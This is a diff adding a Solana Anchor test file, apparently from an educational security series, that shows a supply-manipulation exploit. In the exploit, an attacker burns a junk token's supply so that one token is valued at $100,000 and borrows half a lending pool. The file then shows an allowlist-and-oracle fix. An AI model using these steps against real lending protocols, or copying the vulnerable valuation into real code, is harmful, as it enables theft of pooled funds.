@@ -0,0 +1,215 @@
+import * as anchor from "@coral-xyz/anchor";
+import { Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey, SystemProgram } from "@solana/web3.js";
+import { TOKEN_PROGRAM_ID, burn, createAccount, createMint, getAccount, getMint, mintTo } from "@solana/spl-token";
+import { expect } from "chai";
+
+describe("46: Supply-Based Collateral Valuation", () => {
+    const provider = anchor.AnchorProvider.env();
+    anchor.setProvider(provider);
+
+    const program = anchor.workspace.SupplyBasedValuation as Program<any>;
+    const oracle = anchor.workspace.MockOracle as Program<any>;
+
+    let admin: Keypair;
+    let alice: Keypair;
+    let attacker: Keypair;
+
+    let usdMint: PublicKey;
+    let solMint: PublicKey;
+    let junkMint: PublicKey;
+
+    const FEED_ID = 46;
+    const usd = (dollars: number) => dollars * 1_000_000;
+    const VAULT_LIQUIDITY = usd(100_000);
+
+    const poolPda = PublicKey.findProgramAddressSync([Buffer.from("pool")], program.programId)[0];
+    const usdVaultPda = PublicKey.findProgramAddressSync([Buffer.from("usd_vault")], program.programId)[0];
+
+    function feedPda(): PublicKey {
+        const buf = Buffer.alloc(8);
+        buf.writeBigUInt64LE(BigInt(FEED_ID));
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("feed"), admin.publicKey.toBuffer(), buf],
+            oracle.programId
+        )[0];
+    }
+
+    function configPda(mint: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("collateral"), mint.toBuffer()], program.programId)[0];
+    }
+
+    function loanPda(borrower: PublicKey, mint: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync(
+            [Buffer.from("loan"), borrower.toBuffer(), mint.toBuffer()],
+            program.programId
+        )[0];
+    }
+
+    function vaultPda(loan: PublicKey): PublicKey {
+        return PublicKey.findProgramAddressSync([Buffer.from("vault"), loan.toBuffer()], program.programId)[0];
+    }
+
+    function borrowAccounts(borrower: Keypair, mint: PublicKey, collateral: PublicKey, usdAccount: PublicKey) {
+        const loan = loanPda(borrower.publicKey, mint);
+        return {
+            pool: poolPda,
+            mint,
+            loan,
+            borrowerCollateral: collateral,
+            collateralVault: vaultPda(loan),
+            usdVault: usdVaultPda,
+            borrowerUsd: usdAccount,
+            borrower: borrower.publicKey,
+            tokenProgram: TOKEN_PROGRAM_ID,
+            systemProgram: SystemProgram.programId,
+        };
+    }
+
+    before(async () => {
+        admin = Keypair.generate();
+        alice = Keypair.generate();
+        attacker = Keypair.generate();
+
+        for (const kp of [admin, alice, attacker]) {
+            const sig = await provider.connection.requestAirdrop(kp.publicKey, 10 * LAMPORTS_PER_SOL);
+            await provider.connection.confirmTransaction(sig);
+        }
+    });
+
+    describe("Setup", () => {
+        it("Creates a pool with $100,000 of stablecoin liquidity", async () => {
+            usdMint = await createMint(provider.connection, admin, admin.publicKey, null, 6);
+
+            await program.methods
+                .initializePool(new anchor.BN(60))
+                .accounts({
+                    pool: poolPda,
+                    usdMint,
+                    usdVault: usdVaultPda,
+                    admin: admin.publicKey,
+                    tokenProgram: TOKEN_PROGRAM_ID,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([admin])
+                .rpc();
+
+            await mintTo(provider.connection, admin, usdMint, usdVaultPda, admin, VAULT_LIQUIDITY);
+        });
+
+        it("Allowlists a wrapped-SOL-like collateral priced at $100 by an oracle feed", async () => {
+            solMint = await createMint(provider.connection, admin, admin.publicKey, null, 9);
+
+            await oracle.methods
+                .initializeFeed(new anchor.BN(FEED_ID), new anchor.BN(usd(100)))
+                .accounts({ feed: feedPda(), authority: admin.publicKey, systemProgram: SystemProgram.programId })
+                .signers([admin])
+                .rpc();
+
+            await program.methods
+                .addCollateral()
+                .accounts({
+                    pool: poolPda,
+                    mint: solMint,
+                    feed: feedPda(),
+                    config: configPda(solMint),
+                    admin: admin.publicKey,
+                    systemProgram: SystemProgram.programId,
+                })
+                .signers([admin])
+                .rpc();
+        });
+    });
+
+    describe("Exploit: manipulating the collateral mint's supply", () => {
+        let collateral: PublicKey;
+        let usdAccount: PublicKey;
+
+        it("The attacker mints a million worthless tokens", async () => {
+            junkMint = await createMint(provider.connection, attacker, attacker.publicKey, null, 0);
+            collateral = await createAccount(provider.connection, attacker, junkMint, attacker.publicKey);
+            usdAccount = await createAccount(provider.connection, attacker, usdMint, attacker.publicKey);
+            await mintTo(provider.connection, attacker, junkMint, collateral, attacker, 1_000_000);
+
+            console.log("  At supply 1,000,000 one token is valued at $1");
+        });
+
+        it("Burns the supply down to 10, so one token is 'worth' $100,000", async () => {
+            await burn(provider.connection, attacker, collateral, junkMint, attacker, 999_990);
+            expect(Number((await getMint(provider.connection, junkMint)).supply)).to.equal(10);
+        });
+
+        it("Borrows half the pool against a single token", async () => {
+            await program.methods
+                .vulnerableBorrow(new anchor.BN(1))
+                .accounts(borrowAccounts(attacker, junkMint, collateral, usdAccount))
+                .signers([attacker])
+                .rpc();
+
+            const borrowed = Number((await getAccount(provider.connection, usdAccount)).amount);
+            console.log(`  Attacker borrowed $${borrowed / 1_000_000} against a token they minted for free`);
+            expect(borrowed).to.equal(VAULT_LIQUIDITY / 2);
+        });
+    });
+
+    describe("Secure: allowlisted collateral with oracle pricing", () => {
+        it("Rejects a mint the admin never allowlisted", async () => {
+            const fresh = await createMint(provider.connection, attacker, attacker.publicKey, null, 0);
+            const collateral = await createAccount(provider.connection, attacker, fresh, attacker.publicKey);
+            const usdAccount = await createAccount(provider.connection, attacker, usdMint, attacker.publicKey, Keypair.generate());
+            await mintTo(provider.connection, attacker, fresh, collateral, attacker, 1);
+
+            try {
+                await program.methods
+                    .secureBorrow(new anchor.BN(1))
+                    .accounts({
+                        ...borrowAccounts(attacker, fresh, collateral, usdAccount),
+                        config: configPda(fresh),
+                        feed: feedPda(),
+                    })
+                    .signers([attacker])
+                    .rpc();
+                expect.fail("Should have thrown");
+            } catch (error: any) {
+                expect(error.error?.errorCode?.code).to.equal("AccountNotInitialized");
+            }
+        });
+
+        it("Values allowlisted collateral at the oracle price", async () => {
+            const collateral = await createAccount(provider.connection, alice, solMint, alice.publicKey);
+            const usdAccount = await createAccount(provider.connection, alice, usdMint, alice.publicKey);
+            await mintTo(provider.connection, admin, solMint, collateral, admin, 10 * 1_000_000_000);
+
+            await program.methods
+                .secureBorrow(new anchor.BN(10 * 1_000_000_000))
+                .accounts({
+                    ...borrowAccounts(alice, solMint, collateral, usdAccount),
+                    config: configPda(solMint),
+                    feed: feedPda(),
+                })
+                .signers([alice])
+                .rpc();
+
+            const borrowed = Number((await getAccount(provider.connection, usdAccount)).amount);
+            console.log(`  10 tokens at $100 with 50% LTV: Alice borrowed $${borrowed / 1_000_000}`);
+            expect(borrowed).to.equal(usd(500));
+        });
+    });
+
+    describe("Security Comparison", () => {
+        it("Demonstrates the core difference", () => {
+            console.log("\n=== Supply-Based Collateral Valuation ===\n");
+
+            console.log("VULNERABLE PATTERN:");
+            console.log("  value = amount * REFERENCE_CAP / mint.supply  // any mint");
+            console.log("  Risk: the mint authority sets the supply, and with it the price\n");
+
+            console.log("SECURE PATTERN:");
+            console.log("  CollateralConfig PDA per allowlisted mint; value = amount * oracle_price / 10^decimals");
+            console.log("  Protection: only admin-approved assets, priced by an external feed\n");
+
+            console.log("KEY INSIGHT:");
+            console.log("  On-chain token metadata (supply, decimals, holders) is not a price. Value needs an independent source.");
+        });
+    });
+});